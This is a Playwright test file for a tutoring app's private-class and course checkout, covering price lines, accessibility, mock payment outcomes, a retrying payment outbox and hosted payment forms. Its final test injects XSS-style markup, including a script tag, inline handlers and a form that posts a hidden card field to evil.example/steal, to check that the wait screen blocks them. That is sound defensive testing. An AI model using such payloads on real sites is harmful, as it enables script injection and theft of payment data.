import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Page } from './fixtures';
import { adminFetch } from '../../mock-server/admin-client.mjs';
import { DEMO } from '../../mock-server/demo-data.mjs';
import { payInTestCheckout, payments, resetMock, signInAndOpen, value } from './helpers';

test.beforeEach(resetMock);

const PRIVATE = DEMO.privateClass.code;
const COURSE = DEMO.course.code;

test('the private class checkout shows the class and the price lines, and passes axe', async ({ page }) => {
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  await expect(value(page, 'Class')).toHaveText(DEMO.privateClass.className);
  await expect(value(page, 'Duration')).toHaveText('60 min');
  // The date in the browser's zone, as formatClassTime writes it.
  await expect(value(page, 'Date and time')).toHaveText(/\d{1,2}:\d{2} (AM|PM)/);
  await expect(value(page, 'Session price')).toHaveText('₹500');
  await expect(value(page, 'Transaction fee')).toHaveText('₹25');
  await expect(value(page, 'Discount')).toHaveText('₹0');
  await expect(value(page, 'Total')).toHaveText('₹525');
  await expect(value(page, 'Tutor')).toHaveText('Asha Rao');
  await expect(page.getByRole('link', { name: /Back to the class/ })).toHaveAttribute('href', `/student-private-class/${PRIVATE}`);
  const results = await new AxeBuilder({ page }).analyze();
  expect(results.violations).toEqual([]);
});

test("'Pay' in the test checkout saves exactly one payment and returns to the class page", async ({ page }) => {
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  await page.getByRole('button', { name: 'Pay Now' }).click();
  const dialog = page.getByRole('dialog', { name: 'Test checkout' });
  await expect(dialog).toBeVisible();
  expect(await new AxeBuilder({ page }).analyze().then((r) => r.violations)).toEqual([]);
  await dialog.getByRole('button', { name: 'Pay', exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/student-private-class/${PRIVATE}$`));
  const saved = await payments(PRIVATE);
  expect(saved).toHaveLength(1);
  expect(saved[0]).toMatchObject({ Status: 'captured' });
  expect(await page.evaluate(() => localStorage.getItem('PAYMENT_OUTBOX'))).toBeNull();
  // The class page the checkout returns to reads the status from the backend (GetPrivateClassStatus).
  await expect(page.getByRole('region', { name: 'Your class' })).toContainText(`Payment received: “${DEMO.privateClass.className}” is booked and paid.`);
  // Back to the checkout: it says the class is paid and leads to it; there is no Pay Now to press again.
  await page.goBack();
  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${PRIVATE}$`));
  await expect(page.getByRole('status').filter({ hasText: 'You have paid for this already' })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Pay Now' })).toHaveCount(0);
  await page.getByRole('link', { name: `Go to ${DEMO.privateClass.className}` }).click();
  await expect(page).toHaveURL(new RegExp(`/student-private-class/${PRIVATE}$`));
  expect(await payments(PRIVATE)).toHaveLength(1);
});

test("'Fail' saves the failure response and shows 'Transaction Failed!'", async ({ page }) => {
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  await page.getByRole('button', { name: 'Pay Now' }).click();
  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Fail' }).click();
  await expect(page.getByRole('alertdialog', { name: 'Transaction Failed!' })).toBeVisible();
  await expect.poll(async () => (await payments(PRIVATE)).map((p) => p.Status)).toEqual(['failed']);
  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${PRIVATE}$`));
});

test("'Close' saves nothing and stays on the checkout, ready to pay again", async ({ page }) => {
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  await page.getByRole('button', { name: 'Pay Now' }).click();
  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('button', { name: 'Pay Now' })).toBeEnabled();
  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${PRIVATE}$`));
  expect(await payments(PRIVATE)).toEqual([]);
});

test('the course checkout shows the course fee lines, its sessions and cancellation rule, no duration or date, and passes axe', async ({ page }) => {
  await signInAndOpen(page, `/course-class-checkout/${COURSE}`);
  await expect(value(page, 'Course')).toHaveText(DEMO.course.courseName);
  await expect(value(page, 'Course fee')).toHaveText('₹2,000');
  await expect(value(page, 'Transaction fee')).toHaveText('₹100');
  await expect(value(page, 'Discount')).toHaveText('₹0');
  await expect(value(page, 'Total')).toHaveText('₹2,100');
  await expect(page.locator('dt', { hasText: 'Duration' })).toHaveCount(0);
  await expect(page.locator('dt', { hasText: 'Date and time' })).toHaveCount(0);
  // Its sessions, in the student's zone, and the rule that decides what leaving refunds, before paying.
  const sessions = page.getByRole('list', { name: `Sessions of ${DEMO.course.courseName}` }).getByRole('listitem');
  await expect(sessions).toHaveCount(4);
  await expect(sessions.first()).toHaveText(/^Session 1: Introductions and small talk: .*\d{1,2}:\d{2} (AM|PM).* · 60 min$/);
  await expect(page.getByText(/Each session is free to cancel until \d+ hours before it starts/)).toContainText('The next free cancellation ends at');
  const results = await new AxeBuilder({ page }).analyze();
  expect(results.violations).toEqual([]);
});

test("'Pay' for the course saves one payment and returns to the course class page", async ({ page }) => {
  await signInAndOpen(page, `/course-class-checkout/${COURSE}`);
  await payInTestCheckout(page);
  await expect(page).toHaveURL(new RegExp(`/student-course-class/${COURSE}$`));
  expect(await payments(COURSE)).toEqual([expect.objectContaining({ Status: 'captured' })]);
  await expect(page.getByRole('region', { name: 'Your course' })).toContainText(`Payment received: “${DEMO.course.courseName}” is booked and paid.`);
});

test('a payment whose save keeps failing survives two reloads and ends up saved exactly once', async ({ page }) => {
  test.setTimeout(120_000);
  const outbox = () => page.evaluate(() => JSON.parse(localStorage.getItem('PAYMENT_OUTBOX') ?? '[]') as { attempts: number }[]);
  const faults = await adminFetch('/__admin/faults', { method: 'POST', body: { rules: [{ path: '/SavePrivateClassPaymentDetails', status: 503 }] } });
  expect(faults.ok).toBe(true);
  // This test is about the outbox alone: the stand-in's webhook would record the payment after a few seconds.
  const webhooksOff = await adminFetch('/__admin/provider', { method: 'POST', body: { webhooks: 'off' } });
  expect(webhooksOff.ok).toBe(true);
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  await payInTestCheckout(page);
  await expect(page.getByText('Payment received — confirming with the school…')).toBeVisible();
  await expect(page.getByText(/will be sent again automatically/)).toBeVisible({ timeout: 30_000 });
  expect(await outbox()).toEqual([expect.objectContaining({ attempts: 1 })]);
  expect(await payments(PRIVATE)).toEqual([]);

  await page.reload(); // the app start flush fails again
  await expect.poll(async () => (await outbox())[0]?.attempts, { timeout: 30_000 }).toBe(2);
  expect(await payments(PRIVATE)).toEqual([]);

  expect((await adminFetch('/__admin/faults', { method: 'DELETE' })).ok).toBe(true);
  await page.reload(); // now the flush gets through
  await expect.poll(async () => (await payments(PRIVATE)).map((p) => p.Status), { timeout: 30_000 }).toEqual(['captured']);
  await expect.poll(outbox).toEqual([]);
});

/** Signs in from the checkout at `path`, presses Pay Now and waits for the offline provider's hosted payment page. */
async function openHostedPaymentPage(page: Page, path: string): Promise<void> {
  await signInAndOpen(page, path);
  await page.getByRole('button', { name: 'Pay Now' }).click();
  await expect(page.getByRole('heading', { name: 'Test payment page' })).toBeVisible();
}

test('the hosted payment page: Pay there brings the result back, saved once, and lands on the class page', async ({ page }) => {
  const code = DEMO.hostedPrivateClass.code;
  await openHostedPaymentPage(page, `/private-class-checkout/${code}`);
  await page.getByRole('button', { name: 'Pay', exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/student-private-class/${code}$`));
  expect(await payments(code)).toEqual([expect.objectContaining({ Status: 'captured' })]);
});

test("a course paid through a hosted payment form: /payment says 'Please Wait.....', posts the form, and Pay there is saved once", async ({ page }) => {
  const code = DEMO.hostedCourse.code;
  // What the page the form leaves says when it goes (the test page is on the app's origin, so it can read it).
  await page.addInitScript(() => {
    addEventListener('pagehide', () => {
      sessionStorage.setItem('e2e-left', `${location.pathname} ${document.querySelector('[role=status]')?.textContent ?? ''}`);
    });
  });
  const posted: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().includes('/__provider/hosted/pay')) posted.push(request.postData() ?? '');
  });
  await openHostedPaymentPage(page, `/course-class-checkout/${code}`);
  expect(await page.evaluate(() => sessionStorage.getItem('e2e-left'))).toBe('/payment Please Wait.....');
  // The form went once, as a POST, with the order and the return address as its fields.
  expect(posted).toHaveLength(1);
  expect(new URLSearchParams(posted[0]).get('order_id')).toMatch(/^order_/);
  expect(new URLSearchParams(posted[0]).get('return')).toMatch(new RegExp(`/course-class-checkout/${code}$`));
  await page.getByRole('button', { name: 'Pay', exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/student-course-class/${code}$`));
  expect(await payments(code)).toEqual([expect.objectContaining({ Status: 'captured' })]);
});

test("the hosted payment page: 'Fail' there comes back as 'Transaction Failed!', the failure saved once", async ({ page }) => {
  const code = DEMO.hostedPrivateClass.code;
  await openHostedPaymentPage(page, `/private-class-checkout/${code}`);
  await page.getByRole('button', { name: 'Fail', exact: true }).click();
  await expect(page.getByRole('alertdialog', { name: 'Transaction Failed!' })).toBeVisible();
  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${code}$`));
  await expect.poll(async () => (await payments(code)).map((p) => p.Status)).toEqual(['failed']);
  // The result's query parameters are gone from the address: a reload does not report the failure again.
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name: 'Payment' })).toBeVisible();
  await expect(page.getByRole('alertdialog', { name: 'Transaction Failed!' })).toHaveCount(0);
  expect((await payments(code)).map((p) => p.Status)).toEqual(['failed']);
});

test("the hosted payment page: 'Close' there saves nothing and the student can pay again", async ({ page }) => {
  const code = DEMO.hostedPrivateClass.code;
  await openHostedPaymentPage(page, `/private-class-checkout/${code}`);
  await page.getByRole('button', { name: 'Close', exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${code}$`));
  await expect(page.getByRole('button', { name: 'Pay Now' })).toBeEnabled();
  expect(await payments(code)).toEqual([]);
});

test('hostile wait-screen markup runs no script and posts nowhere outside the allowlist', async ({ page, cspViolations }) => {
  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
  const origin = new URL(page.url()).origin;
  const posts: string[] = [];
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST') posts.push(request.url());
    if (new URL(request.url()).hostname === 'evil.example') foreign.push(request.url());
  });
  // The router keeps navigation state in history.state.usr: hand /payment a form the way the app would.
  const openWith = async (markup: string) => {
    await page.evaluate((paymentForm) => {
      history.replaceState({ usr: { paymentForm }, key: 'e2e', idx: 0 }, '', '/payment');
    }, markup);
    await page.reload();
  };

  await openWith(
    `<script>window.pwned = 1</script><form action="https://evil.example/steal" method="post" onsubmit="window.pwned = 2">` +
      `<input type="hidden" name="card" value="x"><img src="x" onerror="window.pwned = 3"></form>`,
  );
  await expect(page.getByText(/not on the list of trusted payment providers/)).toBeVisible();
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();

  await openWith(
    `<form action="${origin}/__provider/e2e-wait-screen" method="post" onsubmit="window.pwned = 4">` +
      `<input type="hidden" name="order" value="o_1"><input type="hidden" name="submit" value="x"><script>window.pwned = 5</script></form>`,
  );
  await expect.poll(() => posts.filter((url) => url.startsWith(`${origin}/__provider/e2e-wait-screen`)).length).toBe(1);
  // The request is seen before the page has its answer: wait for the navigation itself to end, so nothing below (nor the
  // context's close, which hung Chromium for a minute in 2 of 6 clean-clone runs when it came mid-navigation) races it.
  await page.waitForURL(`${origin}/__provider/e2e-wait-screen`);
  expect(foreign).toEqual([]);
  // The CSP reports the markup's inline handlers (parsed as data, never run), and nothing else.
  expect(new Set(cspViolations.splice(0).map((v) => `${v.directive} ${v.blockedURI}`))).toEqual(new Set(['script-src-attr inline']));
});
